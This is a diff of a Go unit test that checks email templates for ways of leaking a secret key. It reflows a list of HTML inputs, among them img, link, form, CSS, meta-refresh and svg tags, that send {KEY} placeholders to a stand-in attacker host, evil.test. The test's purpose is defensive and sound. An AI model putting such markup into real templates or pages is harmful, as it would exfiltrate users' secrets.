@@ -16,7 +16,8 @@ func TestTemplateCarriesNoKeyAway(t *testing.T) {
 		return mail.Template{Text: "{KEY}", HTML: html + "<p>{KEY}</p>"}.Check()
 	}
 	for _, html := range []string{
-		`<img src="https://evil.test/?k={KEY}">`, `<IMG SRC='//evil.test/{KEY}'>`, `<img srcset="https://evil.test/{KEY} 2x">`,
+		`<img src="https://evil.test/?k={KEY}">`, `<IMG SRC='//evil.test/{KEY}'>`,
+		`<img srcset="https://evil.test/{KEY} 2x">`,
 		`<a href="https://evil.test/?k={KEY}">x</a>`, `<a href="mailto:x@evil.test?body={PARENT_KEY}">x</a>`,
 		`<a href="{KEY}.evil.test">x</a>`, `<area href="{KEY}">`, `<img src="{KEY}">`, `<a href="{PARENT_KEY}">x</a>`,
 		`<form action="https://evil.test/{KEY}"></form>`, `<form action="https://evil.test"><input value="{KEY}"></form>`,
@@ -26,7 +27,8 @@ func TestTemplateCarriesNoKeyAway(t *testing.T) {
 		`<p style="background:url(https://evil.test/{KEY})">x</p>`, `<table background="https://evil.test/{KEY}"></table>`,
 		`<meta http-equiv="refresh" content="0;url=https://evil.test/{KEY}">`, `<iframe srcdoc="{KEY}"></iframe>`,
 		`<object data="https://evil.test/{KEY}"></object>`, `<video poster="https://evil.test/{KEY}"></video>`,
-		`<link rel="stylesheet" href="https://evil.test/{KEY}">`, `<p title="{KEY}">x</p>`, `<base href="https://evil.test/{KEY}/">`,
+		`<link rel="stylesheet" href="https://evil.test/{KEY}">`, `<p title="{KEY}">x</p>`,
+		`<base href="https://evil.test/{KEY}/">`,
 		`<img src="https://evil.test/?`, `<svg><image xlink:href="https://evil.test/{KEY}"/></svg>`,
 		`<a href="https://evil.test/?k=&#123;KEY&#125;{KEY}">x</a>`, `<select><option>{KEY}</option></select>`,
 	} {
